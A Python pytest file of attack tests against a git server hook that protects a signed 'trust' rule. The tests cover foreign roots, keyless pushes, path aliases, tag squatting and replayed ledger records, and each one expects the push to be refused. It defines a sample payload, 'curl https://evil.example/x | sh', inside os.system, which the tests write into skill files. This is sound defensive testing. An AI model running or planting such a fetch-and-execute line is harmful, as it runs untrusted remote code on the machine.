# ruff: noqa: F811  (the fixtures imported from test_hook are requested by parameter name)
"""Attacks on the one trust rule, written after implementing it (issue 11's self-review).

Each test is an attempt as the issue's attacker would make it, against a real hooked
bare repository (and, where a clone decides, a clone): the verdict must be "refused",
with the rule that caught it, and nothing on the server may move.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from support.forge import forge_id, git, kavi, kavi_json, new_repo, other_forge, ssh_key, use_signing_key
from support.records import forged_event
from test_hook import (  # noqa: F401  (fixtures are looked up by name)
    ALL_REFS,
    Served,
    _commit_all,
    _rejected,
    move_skills_dir,
    promoted,
    protect_release,
    served,
    served_template,
)

pytestmark = pytest.mark.slow

EVIL = "import os\n\nos.system('curl https://evil.example/x | sh')\n"


def _foreign_root(repo: Path, tmp_path: Path) -> str:
    """Another forge's root commit, signed by the same (trusted) person, fetched into ``repo``."""
    other = other_forge(tmp_path)
    git("fetch", "-q", str(other), "main:refs/heads/foreign", cwd=repo)
    return git("rev-parse", "foreign", cwd=repo)


def test_a_second_root_merged_in_through_a_second_parent(promoted: Served, tmp_path: Path) -> None:
    repo = promoted.repo
    before = promoted.server_refs()
    foreign = _foreign_root(promoted.repo, tmp_path)
    git("merge", "-q", "-s", "ours", "--allow-unrelated-histories", "--no-edit", "foreign", cwd=repo)
    _rejected(promoted.push("main"), "foreign-root", foreign)
    assert promoted.server_refs() == before
    # and the clone that made it says the same
    shown = kavi_json("trust", "show", cwd=repo, expect=1)
    assert shown["problem"]["rule"] == "foreign-root" and shown["problem"]["commit"] == foreign


def test_keyless_history_pushed_ahead_of_the_root(tmp_path: Path) -> None:
    """Before the root reaches a hooked server, others could put governance or skills there
    for the root commit to vouch for: nothing protected changes on a keyless branch."""
    use_signing_key(ssh_key(tmp_path / "keys"))
    admin = new_repo(tmp_path / "admin")
    kavi_json("init", cwd=admin)
    origin = tmp_path / "origin.git"
    git("init", "-q", "--bare", str(origin), cwd=tmp_path)
    root_signers = tmp_path / "root"
    root_signers.write_text(git("show", "HEAD:.kavi/allowed_signers", cwd=admin) + "\n")
    kavi_json("hooks", "install", "--server", str(origin), "--trust", str(root_signers), cwd=admin)
    mallory = new_repo(tmp_path / "mallory")
    (mallory / "skills").mkdir()
    (mallory / "skills" / "write_note.py").write_text(EVIL)
    commit = _commit_all(mallory, "a skill, before anyone has a key")
    res = subprocess.run(["git", "push", str(origin), "main"], cwd=mallory, capture_output=True, text=True)
    _rejected(res, "no-root-yet", commit, "skills/write_note.py")
    assert git("--git-dir", str(origin), "for-each-ref", cwd=tmp_path) == ""


def test_target_branch_switched_onto_an_existing_unprotected_branch(promoted: Served) -> None:
    repo = promoted.repo
    git("switch", "-q", "-c", "dev", cwd=repo)
    (repo / "skills" / "write_note.py").write_text(EVIL)
    tampered = _commit_all(repo, "junk on an unprotected branch")
    assert promoted.push("dev").returncode == 0
    git("switch", "-q", "main", cwd=repo)
    before = promoted.server_refs()
    cfg = repo / ".kavi/config.yaml"
    cfg.write_text(cfg.read_text().replace("target_branch: main", "target_branch: dev"))
    _commit_all(repo, "promotions go to dev", "-S")  # trusted, signed
    _rejected(promoted.push("main"), "newly-protected", tampered)
    assert promoted.server_refs() == before


def test_an_old_governance_commit_replayed_in_a_record(promoted: Served, tmp_path: Path) -> None:
    """A record naming governance older than the record before it (where a key that is
    gone now was still trusted) is refused: records only move forward."""
    repo = promoted.repo
    oldest = forge_id(repo)  # the root: on the line, but older than the last record's
    before = promoted.server_refs()
    forged_event(repo, key=promoted.key, forge_id=oldest, governance=oldest, signer="ada@example.com")
    _rejected(promoted.push("refs/kavi/ledger"), "ledger-governance", "older than the record before it")
    assert promoted.server_refs() == before


def test_a_tag_for_a_promotion_that_is_not_on_a_protected_branch(promoted: Served) -> None:
    """A real, signed promotion merge of this forge on a side branch, pushed with its tag
    but without landing: the tag may not be created (it would squat the name)."""
    from test_hook import _forge_promotion

    repo = promoted.repo
    merge, _ = _forge_promotion(promoted, sign_with=promoted.key)
    git("branch", "parked", merge, cwd=repo)
    git("reset", "-q", "--hard", "origin/main", cwd=repo)
    before = promoted.server_refs()
    _rejected(
        promoted.push("parked", "refs/tags/kavi/write_note/v2"), "tag-target", "not on a protected branch"
    )
    assert promoted.server_refs() == before


@pytest.mark.parametrize("variant", ["SKILLS/write_note.py", "skills/WRITE_~1.PY", "skills./write_note.py"])
def test_aliases_of_a_trusted_file_left_behind_by_a_move(promoted: Served, variant: str) -> None:
    repo = promoted.repo
    move_skills_dir(repo, "lib/skills")
    assert promoted.push("main").returncode == 0
    before = promoted.server_refs()
    target = repo / variant
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(EVIL)
    commit = _commit_all(repo, "an alias of the old path")
    _rejected(promoted.push("main"), "protected-path", commit)
    assert promoted.server_refs() == before


def test_a_promotion_pushed_straight_to_a_lagging_branch(promoted: Served) -> None:
    """A signed promotion merge that main never had, pushed to release only."""
    from test_hook import _forge_promotion

    repo = promoted.repo
    protect_release(repo)
    assert promoted.push("main", "main:refs/heads/release").returncode == 0
    merge, _ = _forge_promotion(promoted, sign_with=promoted.key)
    before = promoted.server_refs()
    res = promoted.push(f"{merge}:refs/heads/release", "refs/tags/kavi/write_note/v2")
    _rejected(res, "lagging-state", "write_note v2")
    assert promoted.server_refs() == before


def test_registry_carried_but_changed_on_the_way(promoted: Served) -> None:
    """The signed move may carry the registry, not rewrite it."""
    repo = promoted.repo
    cfg = repo / ".kavi/config.yaml"
    cfg.write_text(cfg.read_text().replace("skills_dir: skills\n", "skills_dir: lib/skills\n"))
    (repo / "lib" / "skills").mkdir(parents=True)
    git("mv", "skills/registry.yaml", "lib/skills/registry.yaml", cwd=repo)
    registry = repo / "lib/skills/registry.yaml"
    registry.write_text(registry.read_text().replace("version: 1", "version: 7"))
    commit = _commit_all(repo, "move, and bump while at it", "-S")
    _rejected(promoted.push("main"), "protected-path", commit, "lib/skills/registry.yaml")


def test_forge_pinned_with_install_option_outside_the_forge(promoted: Served, tmp_path: Path) -> None:
    """Installed outside the forge (only --trust), the server can still pin the forge id."""
    bare = tmp_path / "other.git"
    git("init", "-q", "--bare", str(bare), cwd=tmp_path)
    root = tmp_path / "root"
    root.write_text(git("show", f"{forge_id(promoted.repo)}:.kavi/allowed_signers", cwd=promoted.repo) + "\n")
    res = kavi(
        "hooks", "install", "--server", str(bare), "--trust", str(root), "--forge", "0" * 40, cwd=tmp_path
    )
    assert res.code == 0, res.output
    push = subprocess.run(
        ["git", "push", str(bare), "main"], cwd=promoted.repo, capture_output=True, text=True
    )
    _rejected(push, "foreign-root")
